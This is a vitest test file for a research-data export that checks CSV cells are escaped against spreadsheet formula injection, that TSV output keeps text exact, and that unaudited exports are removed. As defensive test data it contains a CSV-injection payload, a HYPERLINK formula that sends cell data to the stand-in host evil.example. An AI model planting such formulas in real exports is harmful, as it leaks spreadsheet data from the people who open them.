// Text a user typed cannot become a spreadsheet formula in an exported CSV (OWASP CSV-injection guidance),
// while BIDS TSV keeps it exact; numbers, negative ones included, stay numbers. And nothing leaves unaudited.
import fs from 'node:fs';
import path from 'node:path';
import Database from 'better-sqlite3';
import { afterAll, beforeAll, expect, test } from 'vitest';
import { exportRequest } from '../../common/reports.ts';
import { runExport } from './research-export.ts';
import { csv } from './tables.ts';
import { openTestData, type RecordedSession, type TestData } from '../../testing/sessions.ts';

const FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")';
let t: TestData;
let recorded: RecordedSession;

beforeAll(async () => {
  t = openTestData('pulse-csv-');
  recorded = await t.record(t.subject({ code: 'CSV-1' }), 12, 70, { marker: FORMULA });
}, 60_000);
afterAll(() => t.close());

test('cells starting with = + - @ tab or CR get an apostrophe and quotes; numbers do not', () => {
  expect(
    csv(
      ['a', 'b', 'c', 'd', 'e', 'f'],
      [
        ['=1+1', '+cmd', '-2+3', '@SUM(A1)', '\tx', -0.5],
        ['-0.5', '1e3', 'plain', null, 'a,b', 'say "hi"'],
      ],
    ),
  ).toBe(`a,b,c,d,e,f\n"'=1+1","'+cmd","'-2+3","'@SUM(A1)","'\tx",-0.5\n-0.5,1e3,plain,,"a,b","say ""hi"""\n`);
});

test('an exported marker label is escaped in _markers.csv and exact in events.tsv', async () => {
  const destination = fs.mkdtempSync(path.join(t.dir, 'out-'));
  const result = await runExport(
    t.store,
    exportRequest.parse({ studyId: 1, sessionIds: [recorded.sessionId], destination, container: 'folder' }),
    { appVersion: 'test' },
  );
  const markers = fs.readFileSync(
    path.join(result.path, 'derivatives/pulse-studio/sub-CSV1/ses-1/sub-CSV1_ses-1_markers.csv'),
    'utf8',
  );
  expect(markers).toBe(`t_s,label\n6,"'=HYPERLINK(""http://evil.example/?""&A1,""click"")"\n`);
  const events = fs.readFileSync(
    path.join(result.path, 'sub-CSV1/ses-1/beh/sub-CSV1_ses-1_task-rppg_events.tsv'),
    'utf8',
  );
  expect(events).toBe(`onset\tduration\ttrial_type\n6\t0\t${FORMULA}\n`);
});

test('an export the audit trail cannot record (database locked by another program) is removed again', async () => {
  const destination = fs.mkdtempSync(path.join(t.dir, 'out-'));
  const other = new Database(path.join(t.store.dataDir, 'pulse-studio.db'));
  other.exec('BEGIN IMMEDIATE');
  try {
    const run = runExport(t.store, exportRequest.parse({ studyId: 1, sessionIds: [recorded.sessionId], destination }), {
      appVersion: 'test',
    });
    await expect(run).rejects.toMatchObject({
      code: 'busy',
      message: expect.stringMatching(/was removed again: it could not be recorded in the audit trail/),
    });
  } finally {
    other.close();
  }
  expect(fs.readdirSync(destination)).toEqual([]);
});
